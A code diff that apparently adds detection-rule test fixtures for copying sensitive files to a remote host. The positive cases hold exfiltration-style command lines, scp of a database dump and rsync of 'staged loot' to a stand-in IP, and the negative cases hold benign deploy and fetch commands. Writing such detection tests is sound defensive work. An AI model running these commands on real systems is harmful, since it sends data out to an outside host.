@@ -42,5 +42,15 @@ extension Fixtures {
                 Case("scheduled rclone backup", Actor(Proc.line("/usr/bin/rclone", "rclone sync /srv/data s3:backups/data"), in: Trees.unit("rclone-backup.service", Proc("/usr/bin/bash", ["/bin/bash", "/usr/local/bin/offsite.sh"]))).exec()),
                 Case("listing a remote", Actor(Proc.line("/usr/bin/rclone", "rclone ls s3:backups"), in: Trees.rootLogin).exec()),
             ]),
+
+        RuleFixture("sensitive-files-copied-to-remote-host",
+            positives: [
+                Case("scp of a database dump", Actor(Proc.line("/usr/bin/scp", "scp /root/shop.sql.gz x@198.51.100.23:/tmp/"), in: Trees.rootLogin).exec()),
+                Case("rsync of staged loot", Actor(Proc.line("/usr/bin/rsync", "rsync -az /dev/shm/.l/out.tgz 198.51.100.23:"), in: Trees.rootLogin).exec()),
+            ],
+            negatives: [
+                Case("deploying application code", Actor(Proc.line("/usr/bin/rsync", "rsync -az --delete /srv/app/ deploy@web2.internal:/srv/app/"), in: Trees.rootLogin).exec()),
+                Case("fetching a file from a remote host", Actor(Proc.line("/usr/bin/scp", "scp backup@10.0.0.50:/srv/backup/db.sql /root/restore/"), in: Trees.rootLogin).exec()),
+            ]),
     ]
 }
